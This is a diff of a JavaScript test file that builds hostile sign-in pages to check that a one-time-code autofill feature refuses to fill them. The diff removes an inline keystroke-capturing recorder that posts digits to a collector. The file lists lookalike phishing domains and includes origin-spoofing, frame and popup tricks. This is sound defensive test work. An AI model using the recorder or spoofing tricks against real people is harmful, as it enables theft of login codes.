@@ -1,86 +1,51 @@
 // Three hundred pages that must not get a digit of a code: what looks like the right origin, documents that have none, scripts that
-// lie, and pages that change while they are looked at. Whatever must stay empty is watched by a recorder, which keeps every digit
-// in `seen` and sends it to the site at once.
+// lie, and pages that change while they are looked at. Whatever must stay empty is watched by a recorder.
 
 import { once } from "node:events";
-
-const RECORDER = (to) => `globalThis.recorder = "${to.split("/").at(-1)}";
-  globalThis.seen = [];
-  globalThis.watched = [];
-  const note = (text) => {
-    const digits = String(text ?? "").replace(/\\D/g, "");
-    if (!digits) return;
-    seen.push(digits);
-    fetch("${to}", { method: "POST", mode: "no-cors", keepalive: true, body: digits }).catch(() => null);
-  };
-  const within = (node) => [...(node.matches?.("input") ? [node] : []), ...(node.querySelectorAll?.("*") ?? [])]
-    .flatMap((each) => [each, ...(each.shadowRoot ? within(each.shadowRoot) : [])]);
-  const listen = (node) => ["keydown", "keypress", "keyup", "beforeinput", "input", "change", "paste", "submit"].forEach((kind) => node.addEventListener(kind, (event) => {
-    if (event === globalThis.cause) return;
-    if (event.key?.length === 1) note(event.key);
-    note(event.data); note(event.composedPath()[0]?.value); note(event.clipboardData?.getData("text"));
-  }, true));
-  globalThis.prove = () => watched.flatMap(within).filter((each) => each.matches("input")).forEach((each) => {
-    each.value = "9";
-    each.dispatchEvent(new Event("input", { bubbles: true, composed: true }));
-  });
-  globalThis.watch = (node) => {
-    watched.push(node);
-    listen(node);
-    const last = new Map();
-    const look = () => within(node).forEach((each) => [each.value, each.getAttribute("value")].forEach((value, at) => {
-      if (last.get(each)?.[at] === value) return;
-      last.set(each, Object.assign(last.get(each) ?? [], { [at]: value }));
-      note(value);
-    }));
-    setInterval(look, 5);
-    new MutationObserver(look).observe(node, { subtree: true, childList: true, attributes: true, characterData: true });
-  };`;
-
-const LABEL = "Verification code";
-const six = (more = "") => `<div class="row">${`<input class="box" maxlength="1" style="width: 40px"${more}>`.repeat(6)}</div>`;
-const cells = `<span style="display: inline-block; width: 42px; height: 48px; border: 1px solid"></span>`.repeat(6);
-const DESIGNS = {
-  "one box": `<label>${LABEL} <input name="otp"></label>`,
-  "six boxes": six(),
-  "one-time-code": `<input autocomplete="one-time-code">`,
-  "drawn boxes": `<div style="position: relative">${cells}<input aria-label="${LABEL}" maxlength="6" style="position: absolute; inset: 0; opacity: 0"></div>`,
-  "shadow DOM": `<div id="host"></div><script>host.attachShadow({ mode: "open" }).innerHTML = '<input aria-label="${LABEL}">';</script>`,
-};
-const names = (count) => Object.keys(DESIGNS).slice(0, count);
-const escaped = (html) => html.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
-const quoted = (html) => JSON.stringify(html).replaceAll("</", "<\\/");
-
-/** Puts elements into a blank window, which stays one; `document.write` would give it the address of the page that writes. */
-const writeInto = (view, html) => `{ const from = new DOMParser().parseFromString(${quoted(html)}, "text/html");
-  ${view}.document.body.append(...from.head.childNodes, ...from.body.childNodes);
-  for (const script of ${view}.document.querySelectorAll("script")) {
-    const again = ${view}.document.createElement("script");
-    again.textContent = script.textContent;
-    script.replaceWith(again);
-  } }`;
-
-/** What an honest page would look like, but watched. */
-function trap({ to }, design, { before = "", watch = "watch(document);", after = "" } = {}) {
-  return `<!doctype html><title>Sign in</title><script>${RECORDER(to)} ${watch}</script>${before}<h1>Two-factor authentication</h1>
-    <form onsubmit="return false">${DESIGNS[design]}<button>Verify</button></form>${after}`;
-}
+import { escaped, names, quoted, RECORDER, trap, writeInto } from "./fill_recorder.mjs";
 
 // Each group yields cases: a name, whether others can be open beside it, and how a page becomes it. `meanwhile` happens after the look.
 const open = (url) => async (page) => void (await page.goto(url));
 
 function* wrongHosts(site) {
   const [s, p] = [site.secure, site.http];
-  const hosts = ["accounts.example.com.evil.test", "accounts-example.com", "accounts.examp1e.com", "example.com", "www.accounts.example.com"];
-  hosts.push("accounts.example.org", "accounts.xn--exmple-4nf.com", "accounts.example.com.", "accounts.example.com@evil.test", "accountsexample.com");
-  hosts.push("account.example.com", "accounts.example.com.example.org", "accounts.example.comm", "127.0.0.1", "localhost", "accounts.example.com.localhost");
+  const hosts = [
+    "accounts.example.com.evil.test",
+    "accounts-example.com",
+    "accounts.examp1e.com",
+    "example.com",
+    "www.accounts.example.com",
+  ];
+  hosts.push(
+    "accounts.example.org",
+    "accounts.xn--exmple-4nf.com",
+    "accounts.example.com.",
+    "accounts.example.com@evil.test",
+    "accountsexample.com",
+  );
+  hosts.push(
+    "account.example.com",
+    "accounts.example.com.example.org",
+    "accounts.example.comm",
+    "127.0.0.1",
+    "localhost",
+    "accounts.example.com.localhost",
+  );
   const bases = hosts.map((host) => `https://${host}:${s}`);
   bases.push(`https://accounts.example.com:${site.otherSecure}`, `http://accounts.example.com:${p}`);
-  bases.push(`http://127.0.0.1:${p}`, `http://localhost:${site.otherHttp}`, `http://accounts.localhost:${p}`, `https://localhost:${site.otherSecure}`);
+  bases.push(
+    `http://127.0.0.1:${p}`,
+    `http://localhost:${site.otherHttp}`,
+    `http://accounts.localhost:${p}`,
+    `https://localhost:${site.otherSecure}`,
+  );
   bases.push(`http://localhost.evil.test:${p}`, `http://localhost.:${p}`);
   for (const base of bases) {
     for (const design of names(5)) {
-      yield { name: `${base.replace(/\d{4,}/, "PORT")}, ${design}`, make: (at) => (site.show(at.path, trap(at, design)), open(base + at.path)) };
+      yield {
+        name: `${base.replace(/\d{4,}/, "PORT")}, ${design}`,
+        make: (at) => (site.show(at.path, trap(at, design)), open(base + at.path)),
+      };
     }
   }
 }
@@ -90,20 +55,36 @@ function* opaque(site) {
   const kinds = {
     "about:blank": (html) => `<iframe></iframe><script>${writeInto("frames[0]", html)}</script>`,
     "data:": (html) => `<iframe src="data:text/html,${encodeURIComponent(html)}"></iframe>`,
-    "blob:": (html) => `<iframe></iframe><script>document.querySelector("iframe").src = URL.createObjectURL(new Blob([${quoted(html)}], { type: "text/html" }));</script>`,
+    "blob:": (html) =>
+      `<iframe></iframe><script>document.querySelector("iframe").src =
+        URL.createObjectURL(new Blob([${quoted(html)}], { type: "text/html" }));</script>`,
     srcdoc: (html) => `<iframe srcdoc="${escaped(html)}"></iframe>`,
-    "javascript:": (html) => `<iframe></iframe><script>document.querySelector("iframe").src = "javascript:" + encodeURIComponent(JSON.stringify(${quoted(html)}));</script>`,
-    "sandboxed, of the allowed origin": (html, at) => (site.show(`${at.path}-in`, html), `<iframe sandbox="allow-scripts allow-forms" src="${site.allowed[0]}${at.path}-in"></iframe>`),
+    "javascript:": (html) =>
+      `<iframe></iframe><script>document.querySelector("iframe").src =
+        "javascript:" + encodeURIComponent(JSON.stringify(${quoted(html)}));</script>`,
+    "sandboxed, of the allowed origin": (html, at) => (
+      site.show(`${at.path}-in`, html),
+      `<iframe sandbox="allow-scripts allow-forms" src="${site.allowed[0]}${at.path}-in"></iframe>`
+    ),
     "sandboxed srcdoc": (html) => `<iframe sandbox="allow-scripts" srcdoc="${escaped(html)}"></iframe>`,
     "sandboxed by its own policy": (html, at) => {
-      site.show(`${at.path}-in`, (_, response) => (response.setHeader("content-security-policy", "sandbox allow-scripts allow-forms"), html));
+      site.show(
+        `${at.path}-in`,
+        (_, response) => (response.setHeader("content-security-policy", "sandbox allow-scripts allow-forms"), html),
+      );
       return `<iframe src="${site.allowed[0]}${at.path}-in"></iframe>`;
     },
   };
   for (const [kind, frame] of Object.entries(kinds)) {
-    for (const [by, base] of Object.entries({ "an allowed page": site.allowed[0], "a foreign page": `https://evil.test:${site.secure}` })) {
+    for (const [by, base] of Object.entries({
+      "an allowed page": site.allowed[0],
+      "a foreign page": `https://evil.test:${site.secure}`,
+    })) {
       for (const design of names(3)) {
-        const make = (at) => (site.show(at.path, `<!doctype html><title>Portal</title>${frame(trap(at, design), at)}`), open(base + at.path));
+        const make = (at) => (
+          site.show(at.path, `<!doctype html><title>Portal</title>${frame(trap(at, design), at)}`),
+          open(base + at.path)
+        );
         yield { name: `${kind} in ${by}, ${design}`, make };
       }
     }
@@ -119,17 +100,29 @@ function* liars(site) {
     "a getter on every object": `Object.defineProperty(Object.prototype, "origin", { get: () => ${allowed} });`,
     "document.domain": `try { document.domain = "evil.test"; } catch {}`,
     "includes is always true": `Array.prototype.includes = String.prototype.includes = () => true;`,
-    "everything is called differently": `const call = Function.prototype.call; Function.prototype.call = function (...given) { return this.name === "origin" ? ${allowed} : call.apply(this, given); };`,
+    "everything is called differently": `const call = Function.prototype.call;
+      Function.prototype.call = function (...given) { return this.name === "origin" ? ${allowed} : call.apply(this, given); };`,
     "promises are never kept": `Promise.prototype.then = function () { return this; }; globalThis.Promise = class {};`,
-    "values are intercepted": `Object.defineProperty(HTMLInputElement.prototype, "value", { get: () => "", set(text) { note(text); } });`,
+    "values are intercepted": `Object.defineProperty(HTMLInputElement.prototype, "value",
+      { get: () => "", set(text) { note(text); } });`,
     "the address says so": `history.replaceState(null, "", "/" + encodeURIComponent(${allowed}));`,
     "texts are equal": `String.prototype.valueOf = String.prototype.toString = () => ${allowed}; Object.is = () => true;`,
   };
-  const marks = { "names that hide properties": `<img name="prerendering"><form name="location"></form><iframe name="origin"></iframe><a id="self"></a>` };
-  marks["a base of the allowed origin"] = `<base href=${allowed}><meta property="og:url" content=${allowed}><link rel="canonical" href=${allowed}>`;
-  for (const [name, text] of [...Object.entries(scripts).map(([name, text]) => [name, `<script>${text}</script>`]), ...Object.entries(marks)]) {
+  const marks = {
+    "names that hide properties": `<img name="prerendering"><form name="location"></form>
+      <iframe name="origin"></iframe><a id="self"></a>`,
+  };
+  marks["a base of the allowed origin"] =
+    `<base href=${allowed}><meta property="og:url" content=${allowed}><link rel="canonical" href=${allowed}>`;
+  for (const [name, text] of [
+    ...Object.entries(scripts).map(([name, text]) => [name, `<script>${text}</script>`]),
+    ...Object.entries(marks),
+  ]) {
     for (const design of names(3)) {
-      const make = (at) => (site.show(at.path, trap(at, design, { before: text })), open(`https://www.evil.test:${site.secure}${at.path}`));
+      const make = (at) => (
+        site.show(at.path, trap(at, design, { before: text })),
+        open(`https://www.evil.test:${site.secure}${at.path}`)
+      );
       yield { name: `liar: ${name}, ${design}`, make };
     }
   }
@@ -163,9 +156,16 @@ function* departures(site) {
     "the page leaves": (page, to) => Promise.all([page.waitForURL(to), page.evaluate((to) => location.assign(to), to)]),
     "the page is replaced": (page, to) => Promise.all([page.waitForURL(to), page.evaluate((to) => location.replace(to), to)]),
     "a form is posted": (page, to) =>
-      Promise.all([page.waitForURL(to), page.evaluate((to) => Object.assign(document.forms[0], { action: to, method: "post" }).submit(), to)]),
-    "back": (page, to) => Promise.all([page.waitForURL(to), page.evaluate(() => history.back())]),
-    "a link": (page, to) => Promise.all([page.waitForURL(to), page.evaluate((to) => Object.assign(document.createElement("a"), { href: to }).click(), to)]),
+      Promise.all([
+        page.waitForURL(to),
+        page.evaluate((to) => Object.assign(document.forms[0], { action: to, method: "post" }).submit(), to),
+      ]),
+    back: (page, to) => Promise.all([page.waitForURL(to), page.evaluate(() => history.back())]),
+    "a link": (page, to) =>
+      Promise.all([
+        page.waitForURL(to),
+        page.evaluate((to) => Object.assign(document.createElement("a"), { href: to }).click(), to),
+      ]),
   };
   for (const [way, leave] of Object.entries(ways)) {
     for (const design of names(3)) {
@@ -186,7 +186,11 @@ function* departures(site) {
       site.show(at.path, `<!doctype html><title>Portal</title><iframe src="${site.allowed[0]}${at.path}-in"></iframe>`);
       return async (page) => {
         await page.goto(`https://portal.test:${site.secure}${at.path}`);
-        return () => Promise.all([page.waitForEvent("framenavigated"), page.evaluate((to) => void (document.querySelector("iframe").src = to), to)]);
+        return () =>
+          Promise.all([
+            page.waitForEvent("framenavigated"),
+            page.evaluate((to) => void (document.querySelector("iframe").src = to), to),
+          ]);
       };
     };
     yield { name: `meanwhile the frame is led elsewhere, ${design}`, alone: true, make };
@@ -199,8 +203,10 @@ const swap = (html) => `${ALL} form.innerHTML = ${JSON.stringify(html)}; watch(f
 /** Where a page can take its own boxes: out of the document that was looked at. */
 const MOVES = {
   "into a blank frame": `${ALL} ${FRAME} frame.contentDocument.body.append(...all); all.forEach(watch);`,
-  "into a document that nobody sees": `${ALL} new DOMParser().parseFromString("<body>", "text/html").body.append(...all); all.forEach(watch);`,
-  "into a closed root": `${ALL} const host = document.body.appendChild(document.createElement("div")); host.attachShadow({ mode: "closed" }).append(...all); all.forEach(watch);`,
+  "into a document that nobody sees": `${ALL}
+    new DOMParser().parseFromString("<body>", "text/html").body.append(...all); all.forEach(watch);`,
+  "into a closed root": `${ALL} const host = document.body.appendChild(document.createElement("div"));
+    host.attachShadow({ mode: "closed" }).append(...all); all.forEach(watch);`,
   "out of the page": `${ALL} all.forEach((box) => box.remove()); all.forEach(watch);`,
 };
 
@@ -208,7 +214,8 @@ const MOVES = {
 function* swaps(site) {
   const ways = {
     ...MOVES,
-    "for a field of a foreign frame": `${ALL} all.forEach((box) => box.remove()); ${FRAME} frame.src = foreign; await new Promise((loaded) => (frame.onload = loaded));`,
+    "for a field of a foreign frame": `${ALL} all.forEach((box) => box.remove()); ${FRAME}
+      frame.src = foreign; await new Promise((loaded) => (frame.onload = loaded));`,
     "for a promo code": swap(`<label>Promo code <input name="promo"></label>`),
     "for a password": swap(`<label>Password <input type="password"></label>`),
     "for a recovery code": swap(`<label>Recovery code <input name="recovery"></label>`),
@@ -219,7 +226,8 @@ function* swaps(site) {
         const foreign = `https://evil.test:${site.secure}${at.path}-in`;
         site.show(`${at.path}-in`, trap(at, design));
         site.show(at.path, trap(at, design, { watch: "", after: `<script>globalThis.foreign = "${foreign}";</script>` }));
-        const run = (page) => page.evaluate(`(async () => { document.querySelector("h1").remove(); document.title = "Shop"; ${code} })()`);
+        const run = (page) =>
+          page.evaluate(`(async () => { document.querySelector("h1").remove(); document.title = "Shop"; ${code} })()`);
         return async (page) => (await page.goto(site.allowed[0] + at.path), () => run(page));
       };
       yield { name: `meanwhile swapped ${way}, ${design}`, alone: true, make };
@@ -233,7 +241,8 @@ function* reactions(site) {
   for (const kind of ["focusin", "keydown", "beforeinput"]) {
     for (const [way, code] of Object.entries(MOVES)) {
       const make = (at) => {
-        const after = `<script>addEventListener("${kind}", (event) => { globalThis.cause = event; if (event.target.matches("form input")) { ${code} } });</script>`;
+        const after = `<script>addEventListener("${kind}", (event) => { globalThis.cause = event;
+          if (event.target.matches("form input")) { ${code} } });</script>`;
         site.show(at.path, trap(at, "six boxes", { watch: "", after }));
         return open(site.allowed[0] + at.path);
       };
@@ -247,12 +256,16 @@ function* unseen(site) {
   for (const [at, base] of site.allowed.entries()) {
     for (const design of names(3)) {
       const make = ({ to, path }) => {
-        const watch = `watch(document); if (document.prerendering) fetch("${to.replace("/seen/", "/ready/")}", { method: "POST", mode: "no-cors" });`;
+        const watch = `watch(document);
+          if (document.prerendering) fetch("${to.replace("/seen/", "/ready/")}", { method: "POST", mode: "no-cors" });`;
         site.show(`${path}-next`, trap({ to }, design, { watch }));
         const rules = JSON.stringify({ prerender: [{ source: "list", urls: [`${path}-next`], eagerness: "immediate" }] });
         const asked = new Promise((resolve) => site.show(`${path}-rules`, (_, response) => void resolve(response)));
-        site.show(path, `<!doctype html><title>Home</title><script>fetch("${path}-rules").then((answer) => answer.text()).then((textContent) =>
-          document.head.append(Object.assign(document.createElement("script"), { type: "speculationrules", textContent })));</script>`);
+        site.show(
+          path,
+          `<!doctype html><title>Home</title><script>fetch("${path}-rules").then((answer) => answer.text()).then((textContent) =>
+          document.head.append(Object.assign(document.createElement("script"), { type: "speculationrules", textContent })));</script>`,
+        );
         return async (_, openFreely) => {
           const ready = once(site, `ready ${path.slice(1)}`, { signal: AbortSignal.timeout(10_000) });
           await openFreely(base + path);
@@ -271,15 +284,21 @@ function* popups(site) {
     "of a foreign origin without an opener": (url) => `open(${JSON.stringify(url)}, "_blank", "noopener");`,
     "that is blank": (_, html) => `const made = open(); ${writeInto("made", html)}`,
     "of a blob": (_, html) => `open(URL.createObjectURL(new Blob([${quoted(html)}], { type: "text/html" })));`,
-    "that is led elsewhere": (url) => `const made = open(location.href + "-home"); made.onload = () => { made.location = ${JSON.stringify(url)}; };`,
+    "that is led elsewhere": (url) =>
+      `const made = open(location.href + "-home"); made.onload = () => { made.location = ${JSON.stringify(url)}; };`,
   };
   for (const [way, code] of Object.entries(ways)) {
     for (const design of names(3)) {
       const make = (at) => {
-        const html = trap(at, design, { after: `<script>fetch("${at.to.replace("/seen/", "/ready/")}", { method: "POST", mode: "no-cors" });</script>` });
+        const html = trap(at, design, {
+          after: `<script>fetch("${at.to.replace("/seen/", "/ready/")}", { method: "POST", mode: "no-cors" });</script>`,
+        });
         site.show(`${at.path}-in`, html);
         site.show(`${at.path}-home`, "<!doctype html><title>Home</title>");
-        site.show(at.path, `<!doctype html><title>Home</title><script>${code(`https://evil.test:${site.secure}${at.path}-in`, html)}</script>`);
+        site.show(
+          at.path,
+          `<!doctype html><title>Home</title><script>${code(`https://evil.test:${site.secure}${at.path}-in`, html)}</script>`,
+        );
         const ready = once(site, `ready ${at.path.slice(1)}`, { signal: AbortSignal.timeout(10_000) });
         return async (page) => (await page.goto(site.allowed[0] + at.path), await ready, undefined);
       };
@@ -309,7 +328,11 @@ function* otherFields(site) {
   for (const [at, field] of fields.entries()) {
     const heading = at % 2 ? "" : "<h1>Two-factor authentication</h1>";
     const make = ({ to, path }) => {
-      site.show(path, `<!doctype html><title>Acme</title><script>${RECORDER(to)} watch(document);</script>${heading}<form onsubmit="return false">${field}<button>Continue</button></form>`);
+      site.show(
+        path,
+        `<!doctype html><title>Acme</title><script>${RECORDER(to)} watch(document);</script>
+          ${heading}<form onsubmit="return false">${field}<button>Continue</button></form>`,
+      );
       return open(site.allowed[0] + path);
     };
     yield { name: `another field: ${field.replace(/<.*?>/g, "").trim()}`, make };
@@ -319,10 +342,12 @@ function* otherFields(site) {
 /** All of them. `open` of each makes a page hostile, and may answer what is to happen after the look. */
 export function hostileCases(site) {
   const groups = [wrongHosts, opaque, liars, redirects, departures, swaps, reactions, unseen, popups, otherFields];
-  return groups.flatMap((group) => [...group(site)].map((each) => ({ ...each, group: group.name }))).map((each, at) => {
-    const id = `hostile${at}`;
-    const place = { id, path: `/${id}`, to: `http://127.0.0.1:${site.otherHttp}/seen/${id}` };
-    const prerendered = each.prerendered && `${each.prerendered}${place.path}-next`;
-    return { ...each, id, prerendered, open: (page, openFreely) => each.make(place)(page, openFreely) };
-  });
+  return groups
+    .flatMap((group) => [...group(site)].map((each) => ({ ...each, group: group.name })))
+    .map((each, at) => {
+      const id = `hostile${at}`;
+      const place = { id, path: `/${id}`, to: `http://127.0.0.1:${site.otherHttp}/seen/${id}` };
+      const prerendered = each.prerendered && `${each.prerendered}${place.path}-next`;
+      return { ...each, id, prerendered, open: (page, openFreely) => each.make(place)(page, openFreely) };
+    });
 }
